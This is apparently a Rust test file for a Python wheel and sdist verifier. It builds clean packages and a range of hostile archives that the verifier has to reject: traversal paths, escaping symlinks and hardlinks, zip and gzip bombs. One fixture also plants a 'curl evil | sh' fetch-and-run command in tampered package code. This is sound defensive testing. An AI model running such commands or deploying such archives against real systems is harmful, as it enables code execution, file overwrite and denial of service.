//! Real wheels and sdists built in-process, verified; hostile archives rejected.
#![allow(clippy::unwrap_used, clippy::print_stderr)]

mod common;

use std::time::Instant;

use common::{Backend, Raw, T};
use garrison_release::{
    DistKind, Limits, MemberKind, check_dist, read_dist, read_dist_path, verify_wheel,
};

const WHEEL: &str = "sci_pkg-1.2.0-py3-none-any.whl";

fn pkg_files() -> Vec<(&'static str, &'static [u8])> {
    vec![
        (
            "sci_pkg/__init__.py",
            b"from .core import solve\n__version__ = \"1.2.0\"\n",
        ),
        (
            "sci_pkg/core.py",
            b"import numpy as np\n\ndef solve(a, b):\n    return np.linalg.solve(a, b)\n",
        ),
        ("sci_pkg/data/table.csv", b"x,y\n1,2\n"),
        ("sci_pkg/py.typed", b""),
    ]
}

fn rules(findings: &[garrison_report::Finding]) -> Vec<(String, String)> {
    findings
        .iter()
        .map(|f| {
            let route = f
                .primary()
                .and_then(|l| l.route.clone())
                .unwrap_or_default();
            (f.rule.clone(), route)
        })
        .collect()
}

fn problem(filename: &str, bytes: &[u8], limits: &Limits) -> (&'static str, Option<String>) {
    let e = read_dist(filename, bytes, limits).unwrap_err();
    (e.problem.code(), e.member)
}

#[test]
fn clean_wheels_of_each_backend_verify() {
    for backend in [Backend::Setuptools, Backend::Hatchling, Backend::Flit] {
        let bytes = common::wheel(backend, "sci-pkg", "1.2.0", &pkg_files());
        let dist = read_dist(WHEEL, &bytes, &Limits::default()).unwrap();
        assert_eq!(dist.kind, DistKind::Wheel);
        assert!(dist.get("sci_pkg/core.py").is_some_and(|m| m.is_file()));
        let (info, findings) = verify_wheel(&dist);
        assert!(findings.is_empty(), "{backend:?}: {findings:#?}");
        assert_eq!(info.dist_info.as_deref(), Some("sci_pkg-1.2.0.dist-info"));
        assert_eq!(info.metadata.get("Name"), Some("sci-pkg"));
        assert_eq!(info.metadata.get_all("Requires-Dist").count(), 2);
        assert_eq!(info.wheel.get("Wheel-Version"), Some("1.0"));
        assert_eq!(info.record.len(), dist.files.len());
        assert!(check_dist(WHEEL, &bytes, &Limits::default()).is_empty());
    }
}

fn tampered(f: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) -> Vec<u8> {
    let bytes = common::wheel(Backend::Setuptools, "sci-pkg", "1.2.0", &pkg_files());
    let mut members = common::unzip(&bytes);
    f(&mut members);
    common::zip_of(&members)
}

#[test]
fn tampered_content_is_a_record_mismatch() {
    let bytes = tampered(|m| {
        let core = m.iter_mut().find(|(p, _)| p == "sci_pkg/core.py").unwrap();
        core.1 = b"import os; os.system('curl evil | sh')\n".to_vec();
    });
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    assert_eq!(
        rules(&f),
        vec![
            ("release/record-mismatch".into(), "sci_pkg/core.py".into()),
            ("release/record-mismatch".into(), "sci_pkg/core.py".into()),
        ],
        "hash and size both differ: {f:#?}"
    );
    assert!(f.iter().any(|f| f.evidence.contains_key("expected_hash")));
    assert!(f.iter().any(|f| f.evidence.contains_key("actual_size")));
    assert_eq!(f[0].primary().unwrap().path, WHEEL);
    assert_eq!(f[0].severity, garrison_report::Severity::High);

    // Same length, different bytes: only the hash differs.
    let bytes = tampered(|m| {
        let init = m
            .iter_mut()
            .find(|(p, _)| p == "sci_pkg/data/table.csv")
            .unwrap();
        init.1 = b"x,y\n1,3\n".to_vec();
    });
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    assert_eq!(f.len(), 1, "{f:#?}");
    assert!(
        f[0].message
            .contains("does not match its RECORD sha256 hash")
    );
}

#[test]
fn injected_file_is_a_missing_entry() {
    let bytes = tampered(|m| {
        m.insert(
            0,
            ("sci_pkg-hook.pth".into(), b"import sci_pkg._x\n".to_vec()),
        )
    });
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    assert_eq!(
        rules(&f),
        vec![(
            "release/record-missing-entry".into(),
            "sci_pkg-hook.pth".into()
        )]
    );
    assert_eq!(f[0].severity, garrison_report::Severity::High);
}

#[test]
fn removed_file_is_a_stale_entry() {
    let bytes = tampered(|m| m.retain(|(p, _)| p != "sci_pkg/data/table.csv"));
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    assert_eq!(
        rules(&f),
        vec![(
            "release/record-stale-entry".into(),
            "sci_pkg/data/table.csv".into()
        )]
    );
    assert_eq!(f[0].severity, garrison_report::Severity::Medium);
}

#[test]
fn missing_record_and_bad_rows() {
    let bytes = tampered(|m| m.retain(|(p, _)| !p.ends_with("/RECORD")));
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    assert_eq!(
        rules(&f),
        vec![(
            "release/record-missing-entry".into(),
            "sci_pkg-1.2.0.dist-info/RECORD".into()
        )]
    );
    let bytes = tampered(|m| {
        let rec = m.iter_mut().find(|(p, _)| p.ends_with("/RECORD")).unwrap();
        let text = String::from_utf8(rec.1.clone()).unwrap();
        let text = text
            .replace("sci_pkg/py.typed,sha256=", "sci_pkg/py.typed,md5=")
            .replace("sci_pkg/__init__.py,sha256", "sci_pkg/__init__.py,nohash");
        rec.1 = text.into_bytes();
    });
    let f = check_dist(WHEEL, &bytes, &Limits::default());
    let r = rules(&f);
    assert!(
        r.contains(&("release/record-mismatch".into(), "sci_pkg/py.typed".into())),
        "{r:?}"
    );
    assert!(
        r.contains(&(
            "release/record-mismatch".into(),
            "sci_pkg/__init__.py".into()
        )),
        "{r:?}"
    );
}

#[test]
fn dist_info_must_match_the_file_name() {
    let bytes = common::wheel(Backend::Setuptools, "sci-pkg", "1.2.0", &pkg_files());
    let f = check_dist(
        "other_pkg-1.2.0-py3-none-any.whl",
        &bytes,
        &Limits::default(),
    );
    assert!(
        f.iter().all(|f| f.rule == "release/dist-info-mismatch"),
        "{f:#?}"
    );
    assert_eq!(f.len(), 2, "dist-info and METADATA Name: {f:#?}");
    // Normalization: `Sci.Pkg` and `1.2` == `1.2.0` are the same project and version.
    assert!(check_dist("Sci.Pkg-1.2-py3-none-any.whl", &bytes, &Limits::default()).is_empty());
    let f = check_dist("sci_pkg.whl", &bytes, &Limits::default());
    assert!(
        f.iter()
            .any(|f| f.message.contains("not a valid wheel file name"))
    );
}

#[test]
fn sdist_reads_with_prefix() {
    let bytes = common::sdist("sci_pkg", "1.2.0");
    let name = "sci_pkg-1.2.0.tar.gz";
    let dist = read_dist(name, &bytes, &Limits::default()).unwrap();
    assert_eq!(dist.kind, DistKind::Sdist);
    let m = dist.get("sci_pkg-1.2.0/src/pkg/__init__.py").unwrap();
    assert_eq!(m.rel(), "src/pkg/__init__.py");
    assert_eq!(m.data, b"__version__ = \"1.0\"\n");
    assert_eq!(m.size, 20);
    assert_eq!(dist.files[0].kind, MemberKind::Dir);
    assert!(check_dist(name, &bytes, &Limits::default()).is_empty());

    // Links inside the archive are fine and listed with their targets.
    let bytes = common::tar_gz(&[
        T::File("p-1/a/x.py", b"x"),
        T::Symlink("p-1/b/link", "../a/x.py"),
        T::Hardlink("p-1/c", "p-1/a/x.py"),
    ]);
    let dist = read_dist("p-1.tar.gz", &bytes, &Limits::default()).unwrap();
    assert_eq!(
        dist.get("p-1/b/link").map(|m| m.kind.clone()),
        Some(MemberKind::Symlink {
            target: "../a/x.py".into()
        })
    );
    assert_eq!(dist.get("p-1/c").map(|m| m.rel()), Some("c"));

    // Path-based reading and its archive size cap.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join(name);
    std::fs::write(&p, common::sdist("sci_pkg", "1.2.0")).unwrap();
    assert_eq!(
        read_dist_path(&p, &Limits::default()).unwrap().files.len(),
        8
    );
    let small = Limits {
        max_archive_bytes: 100,
        ..Limits::default()
    };
    let e = read_dist_path(&p, &small).unwrap_err();
    assert_eq!(e.problem.code(), "archive-too-large");
    assert!(e.to_string().contains(name));
}

#[test]
fn traversal_and_absolute_paths_are_rejected() {
    let l = Limits::default();
    let tgz = |name: &str| common::tar_gz(&[T::File("p-1/ok.py", b"1"), T::File(name, b"pwned")]);
    assert_eq!(
        problem("p-1.tar.gz", &tgz("p-1/../../evil"), &l),
        ("parent-component", Some("p-1/../../evil".into()))
    );
    assert_eq!(
        problem("p-1.tar.gz", &tgz("../evil"), &l).0,
        "parent-component"
    );
    assert_eq!(
        problem("p-1.tar.gz", &tgz("/etc/cron.d/x"), &l).0,
        "absolute-path"
    );
    assert_eq!(problem("p-1.tar.gz", &tgz("C:/x"), &l).0, "windows-path");
    assert_eq!(
        problem("p-1.tar.gz", &tgz("p-1\\..\\x"), &l).0,
        "windows-path"
    );

    let whl =
        |name: &str| common::raw_zip(&[Raw::stored("a.py", b"a"), Raw::stored(name, b"pwned")]);
    assert_eq!(
        problem(WHEEL, &whl("../evil"), &l),
        ("parent-component", Some("../evil".into()))
    );
    assert_eq!(problem(WHEEL, &whl("/abs"), &l).0, "absolute-path");
    let mut nul = Raw::stored("a", b"x");
    nul.name = b"a\0b.py".to_vec();
    assert_eq!(
        problem(WHEEL, &common::raw_zip(&[nul]), &l).0,
        "nul-in-path"
    );

    // The finding names the archive and the member.
    let f = check_dist(WHEEL, &whl("../evil"), &l);
    assert_eq!(
        rules(&f),
        vec![("release/unsafe-archive".into(), "../evil".into())]
    );
    assert_eq!(
        f[0].evidence.get("problem").and_then(|v| v.as_str()),
        Some("parent-component")
    );
    assert!(f[0].message.contains(WHEEL));
}

#[test]
fn links_escaping_the_archive_are_rejected() {
    let l = Limits::default();
    let cases: Vec<(Vec<T<'_>>, &str)> = vec![
        (vec![T::Symlink("p-1/etc", "/etc")], "symlink-escape"),
        (vec![T::Symlink("p-1/up", "../../home")], "symlink-escape"),
        // `a -> .` then `b -> a/../..`: lexically inside, really outside.
        (
            vec![T::Symlink("a", "."), T::Symlink("b", "a/../..")],
            "symlink-escape",
        ),
        (
            vec![T::Symlink("p-1/l", "x"), T::Symlink("p-1/x", "l")],
            "symlink-escape",
        ),
        // A link to a directory inside, then a file written through it.
        (
            vec![T::Symlink("p-1/d", "sub"), T::File("p-1/d/x", b"x")],
            "under-symlink",
        ),
        (
            vec![T::Hardlink("p-1/h", "../../etc/passwd")],
            "hardlink-escape",
        ),
        (vec![T::CharDevice("p-1/tty")], "device-file"),
        (
            vec![T::File("p-1/a", b"1"), T::File("p-1/a", b"2")],
            "duplicate",
        ),
    ];
    for (members, code) in cases {
        assert_eq!(problem("p-1.tar.gz", &common::tar_gz(&members), &l).0, code);
    }
    // Zip symlinks (wheels built on Unix can carry them) are checked the same way.
    let mut link = Raw::stored("pkg/lib", b"../../../usr/lib");
    link.mode = 0o120777;
    assert_eq!(
        problem(WHEEL, &common::raw_zip(&[link]), &l).0,
        "symlink-escape"
    );
}

#[test]
fn zip_structure_attacks_are_rejected() {
    let l = Limits::default();
    let dup = common::raw_zip(&[Raw::stored("a.py", b"1"), Raw::stored("a.py", b"2")]);
    assert_eq!(problem(WHEEL, &dup, &l).0, "duplicate");
    let mut enc = Raw::stored("a.py", b"1");
    enc.flags = 1;
    assert_eq!(problem(WHEEL, &common::raw_zip(&[enc]), &l).0, "encrypted");
    let mut dev = Raw::stored("a", b"");
    dev.mode = 0o020644;
    assert_eq!(
        problem(WHEEL, &common::raw_zip(&[dev]), &l).0,
        "device-file"
    );
    // A stored entry whose declared size is smaller than its data.
    let mut lie = Raw::stored("a.py", b"0123456789");
    lie.size = 4;
    let code = problem(WHEEL, &common::raw_zip(&[lie]), &l).0;
    assert!(matches!(code, "size-mismatch" | "corrupt"), "{code}");
}

/// A deflated zip entry of 2 GiB of zeros (128 × 16 MiB chunks, ~2 MB compressed).
fn zip_bomb(declared: u32) -> Vec<u8> {
    let data = common::zero_deflate(b"", 128);
    common::raw_zip(&[Raw {
        name: b"sci_pkg/weights.bin".to_vec(),
        method: 8,
        data,
        crc: 0,
        size: declared,
        flags: 0,
        mode: 0o100644,
    }])
}

#[test]
fn zip_bombs_are_stopped() {
    let started = Instant::now();
    let two_gib = 1u32 << 31;
    // Declared honestly: over the per-file limit, refused before decompressing.
    assert_eq!(
        problem(WHEEL, &zip_bomb(two_gib), &Limits::default()).0,
        "file-too-large"
    );
    // Declared as 1 KiB: decompression stops one chunk past the declaration.
    let e = read_dist(WHEEL, &zip_bomb(1024), &Limits::default()).unwrap_err();
    eprintln!("{e}");
    assert_eq!(e.problem.code(), "size-mismatch");
    // Size limits raised: the 200:1 ratio cap stops the stream (at ~400 MB of 2 GiB).
    let big = Limits {
        max_file_bytes: 4 << 30,
        max_total_bytes: 4 << 30,
        max_ratio: 50,
        ..Limits::default()
    };
    assert_eq!(problem(WHEEL, &zip_bomb(two_gib), &big).0, "bomb");
    eprintln!("zip bombs: {:?}", started.elapsed());
}

#[test]
fn gzip_bomb_is_stopped() {
    let mut h = tar::Header::new_gnu();
    h.set_path("p-1/zeros.bin").unwrap();
    h.set_size(2 << 30);
    h.set_mode(0o644);
    h.set_cksum();
    let deflate = common::zero_deflate(h.as_bytes(), 128);
    // gzip = header + raw deflate + crc32 + isize (the trailer is never reached).
    let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    gz.extend_from_slice(&deflate);
    gz.extend_from_slice(&[0; 8]);
    assert_eq!(
        problem("p-1.tar.gz", &gz, &Limits::default()).0,
        "file-too-large"
    );
    let big = Limits {
        max_file_bytes: 4 << 30,
        max_total_bytes: 4 << 30,
        max_ratio: 50,
        ..Limits::default()
    };
    let e = read_dist("p-1.tar.gz", &gz, &big).unwrap_err();
    assert_eq!(e.problem.code(), "bomb", "{e}");
}

#[test]
fn nesting_and_count_limits() {
    let deep = format!("p-1/{}x.py", "d/".repeat(70));
    let bytes = common::tar_gz(&[T::File("p-1/a", b"")]);
    assert!(read_dist("p-1.tar.gz", &bytes, &Limits::default()).is_ok());
    let bytes = common::raw_zip(&[Raw::stored(&deep, b"")]);
    assert_eq!(
        problem(WHEEL, &bytes, &Limits::default()).0,
        "path-too-deep"
    );

    // 200k tiny files against the default 100k limit: refused from the central directory.
    let started = Instant::now();
    let names: Vec<String> = (0..200_000).map(|i| format!("f/{i}")).collect();
    let entries: Vec<Raw> = names.iter().map(|n| Raw::stored(n, b"")).collect();
    let bytes = common::raw_zip(&entries[..65_000]);
    let small = Limits {
        max_files: 60_000,
        ..Limits::default()
    };
    assert_eq!(problem(WHEEL, &bytes, &small).0, "too-many-files");
    eprintln!("65k-entry zip: {:?}", started.elapsed());

    // The same through tar (no central directory: counted while streaming).
    let files: Vec<T<'_>> = names[..2_000].iter().map(|n| T::File(n, b"")).collect();
    let bytes = common::tar_gz(&files);
    let small = Limits {
        max_files: 1_000,
        ..Limits::default()
    };
    assert_eq!(problem("p-1.tar.gz", &bytes, &small).0, "too-many-files");
    assert!(read_dist("p-1.tar.gz", &bytes, &Limits::default()).is_ok());
}

#[test]
fn mangled_archives_never_panic() {
    let wheel = common::wheel(Backend::Hatchling, "sci-pkg", "1.2.0", &pkg_files());
    let sdist = common::sdist("sci_pkg", "1.2.0");
    let mut seed = 0x2545_f491_u64;
    for (name, base) in [(WHEEL, &wheel), ("p-1.tar.gz", &sdist)] {
        for i in 0..400 {
            let mut b = base.clone();
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            if i % 4 == 0 {
                b.truncate((seed as usize) % b.len());
            } else {
                for k in 0..(1 + i % 5) {
                    let at = ((seed >> (k * 8)) as usize) % b.len();
                    b[at] ^= (seed >> 32) as u8 | 1;
                }
            }
            let _ = check_dist(name, &b, &Limits::default());
        }
    }
}

/// A Python with setuptools, wheel and pip (`GARRISON_TEST_PYTHON`, else the build-backend
/// venv of `.ci/python-backends.sh`, else `python3`, else `/usr/bin/python3`); when there is
/// none the test is skipped, and fails under CI.
fn python_with_setuptools() -> Option<String> {
    let candidates = std::env::var("GARRISON_TEST_PYTHON")
        .map(|p| vec![p])
        .unwrap_or_else(|_| {
            let venv = common::build::workspace_root().join("target/py-backends/bin/python");
            std::env::var("GARRISON_BACKENDS_PYTHON")
                .ok()
                .into_iter()
                .chain(venv.is_file().then(|| venv.display().to_string()))
                .chain(["python3".into(), "/usr/bin/python3".into()])
                .collect()
        });
    let found = candidates.into_iter().find(|py| {
        std::process::Command::new(py)
            .args(["-c", "import setuptools, wheel, pip"])
            .output()
            .is_ok_and(|o| o.status.success())
    });
    garrison_test::require::require(found, "a python3 with setuptools, wheel and pip")
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap().flatten() {
        let dst = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &dst);
        } else {
            std::fs::copy(e.path(), dst).unwrap();
        }
    }
}

/// Builds the fixture project with the real setuptools, offline (`pip wheel --no-deps
/// --no-build-isolation --no-index`, and the PEP 517 `build_sdist` hook), and verifies both.
#[test]
fn real_setuptools_build_verifies_clean() {
    let Some(py) = python_with_setuptools() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("sci_pkg");
    copy_dir(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sci_pkg"),
        &src,
    );
    let out = dir.path().join("out");
    let status = std::process::Command::new(&py)
        .args([
            "-m",
            "pip",
            "wheel",
            "--no-deps",
            "--no-build-isolation",
            "--no-index",
            "-q",
            "-w",
        ])
        .arg(&out)
        .arg(&src)
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .env("PIP_NO_INPUT", "1")
        .status()
        .unwrap();
    assert!(status.success(), "pip wheel failed offline with {py}");
    let status = std::process::Command::new(&py)
        .args([
            "-c",
            "import sys; from setuptools import build_meta as b; b.build_sdist(sys.argv[1])",
        ])
        .arg(&out)
        .current_dir(&src)
        .status()
        .unwrap();
    assert!(status.success(), "build_sdist failed");

    let whl = out.join("sci_pkg-1.2.0-py3-none-any.whl");
    let dist = read_dist_path(&whl, &Limits::default()).unwrap();
    let (info, findings) = verify_wheel(&dist);
    assert!(findings.is_empty(), "{findings:#?}");
    assert_eq!(info.metadata.get("Version"), Some("1.2.0"));
    assert!(
        info.metadata
            .get_all("Requires-Dist")
            .any(|r| r.starts_with("numpy"))
    );
    assert!(dist.get("sci_pkg/data/table.csv").is_some());

    // The same wheel with one byte changed is caught.
    let mut members = common::unzip(&std::fs::read(&whl).unwrap());
    let core = members
        .iter_mut()
        .find(|(p, _)| p == "sci_pkg/core.py")
        .unwrap();
    core.1[0] = b'#';
    let f = check_dist(
        "sci_pkg-1.2.0-py3-none-any.whl",
        &common::zip_of(&members),
        &Limits::default(),
    );
    assert_eq!(
        rules(&f),
        vec![("release/record-mismatch".into(), "sci_pkg/core.py".into())]
    );

    let sdist = std::fs::read_dir(&out)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(".tar.gz"))
        .unwrap();
    let dist = read_dist_path(&sdist, &Limits::default()).unwrap();
    assert_eq!(dist.kind, DistKind::Sdist);
    let init = dist
        .files
        .iter()
        .find(|m| m.rel() == "src/sci_pkg/__init__.py")
        .unwrap();
    assert!(init.path.starts_with("sci") && init.path.ends_with("-1.2.0/src/sci_pkg/__init__.py"));
    assert!(dist.files.iter().any(|m| m.rel() == "PKG-INFO"));
}
